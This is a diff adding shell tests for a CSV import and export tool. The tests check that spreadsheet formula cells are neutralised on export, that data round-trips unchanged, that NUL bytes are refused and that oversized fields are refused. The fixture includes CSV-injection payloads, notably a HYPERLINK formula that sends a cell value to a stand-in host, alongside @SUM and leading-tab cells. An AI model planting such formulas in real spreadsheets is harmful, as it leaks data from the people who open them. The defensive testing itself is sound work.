@@ -69,4 +69,70 @@ expect_err "is a symbolic link; refused"
 expect_rc 0 $SB web token-path
 expect_out "$SELLERBRIDGE_DB.web-token"
 
+# spreadsheet formulas from a buyer: exported as text (a leading '), and the export
+# imports back to the very same values
+cat > "$T/evil.csv" <<'CSV'
+ref,name,company,phone,address1,city,email
+C-1,"=HYPERLINK(""http://x.example/?""&A1,""click"")",@SUM(A1:A9),+1 555 0100,-2+3,"	tab first",a@b.example
+C-2,'=already quoted,'plain quote,''+61 2,"'@x",Sydney,c@d.example
+C-3,Plain Name,ACME,0400 000 000,1 Main St,"
+CR first",e@f.example
+CSV
+printf 'ref,name,company,phone,address1,city,email
+C-4,"
+=cr first",x,,,,g@h.example
+' > "$T/cr.csv"
+expect_rc 0 $SB import customers "$T/evil.csv"
+expect_rc 0 $SB import customers "$T/cr.csv"
+q() { sqlite3 "$SELLERBRIDGE_DB" "SELECT name || '|' || company || '|' || phone || '|' || address1 || '|' || quote(city) FROM customers WHERE ref = '$1'"; }
+expect_eq "$(q C-1)" "=HYPERLINK(\"http://x.example/?\"&A1,\"click\")|@SUM(A1:A9)|+1 555 0100|-2+3|'	tab first'" "formula cells imported as they were written"
+expect_eq "$(q C-2)" "=already quoted|'plain quote|'+61 2|@x|'Sydney'" "a leading ' before a formula character is taken off, others kept"
+customers_before=$(sqlite3 "$SELLERBRIDGE_DB" "SELECT ref, name, company, phone, address1, city, email FROM customers ORDER BY ref" | md5sum)
+expect_rc 0 $SB export customers --out "$T/customers.csv"
+grep -qF "\"'=HYPERLINK(" "$T/customers.csv" && ok || bad "= cell not neutralised: $(cat "$T/customers.csv")"
+grep -qF "\"'@SUM(A1:A9)\"" "$T/customers.csv" && ok || bad "@ cell not neutralised"
+grep -qF "\"'+1 555 0100\"" "$T/customers.csv" && ok || bad "+ cell not neutralised"
+grep -qF "\"'-2+3\"" "$T/customers.csv" && ok || bad "- cell not neutralised"
+grep -qF "\"'=already quoted\"" "$T/customers.csv" && ok || bad "= cell not neutralised"
+grep -qF "\"''+61 2\"" "$T/customers.csv" && ok || bad "a stored '+ cell not quoted once more"
+python3 - "$T/customers.csv" <<'PY' && ok || bad "a cell of the export starts like a formula"
+import csv, sys
+for row in csv.reader(open(sys.argv[1], newline='')):
+    for cell in row:
+        assert not cell or cell[0] not in '=+-@\t\r', cell
+PY
+sqlite3 "$SELLERBRIDGE_DB" "UPDATE customers SET name = 'changed', company = NULL, city = 'x' WHERE ref IN ('C-1','C-2','C-4')"
+expect_rc 0 $SB import customers "$T/customers.csv"
+expect_eq "$(sqlite3 "$SELLERBRIDGE_DB" "SELECT ref, name, company, phone, address1, city, email FROM customers ORDER BY ref" | md5sum)" "$customers_before" "export -> import round trip"
+
+# a NUL byte is refused with its line and column, not cut off; a huge field is refused
+# with a clear error and without holding it in memory
+printf 'name,country,state,address
+OK,US,,1 Road
+Bad\000Name,US,,x
+Also,US,,ok\000tail
+' > "$T/nul.csv"
+expect_rc 1 $SB import branches "$T/nul.csv"
+expect_err "nul.csv:3: column 1: a NUL byte (at byte 4 of the field) is not allowed"
+expect_err "nul.csv:4: column 4: a NUL byte (at byte 3 of the field) is not allowed"
+expect_err "nothing was imported"
+python3 -c "
+import sys
+sys.stdout.write('name,country,state,address\nBig,US,,\"' + 'x' * (50 << 20) + '\"\n')" > "$T/big.csv"
+python3 -c "
+import sys
+sys.stdout.write('name,colour\n' + 'x' * (50 << 20) + '\n')" > "$T/same-size.csv"
+# the memory of reading a 50 MB file that is refused at its header, as the yardstick
+expect_rc 1 /usr/bin/time -f "%M" -o "$T/rss0" $SB import branches "$T/same-size.csv"
+expect_rc 1 /usr/bin/time -f "%M" -o "$T/rss" $SB import branches "$T/big.csv"
+expect_err "big.csv:2: column 4: a field longer than the 65536 bytes allowed"
+rss0=$(tail -1 "$T/rss0"); rss=$(tail -1 "$T/rss")
+[ "$rss" -lt $((rss0 + 16384)) ] && ok || bad "a 50 MB field took $rss KiB, reading the file alone $rss0 KiB"
+python3 -c "
+import sys
+sys.stdout.write('name,country,state,address\nBig,US,,\"' + 'y' * 65537 + '\"\nNext,US,,' + 'z' * 65537 + '\n')" > "$T/big2.csv"
+expect_rc 1 $SB import branches "$T/big2.csv"
+expect_err "big2.csv:2: column 4: the field has 65537 bytes, more than the 65536 allowed"
+expect_err "big2.csv:3: column 4: the field has 65537 bytes, more than the 65536 allowed"
+
 finish
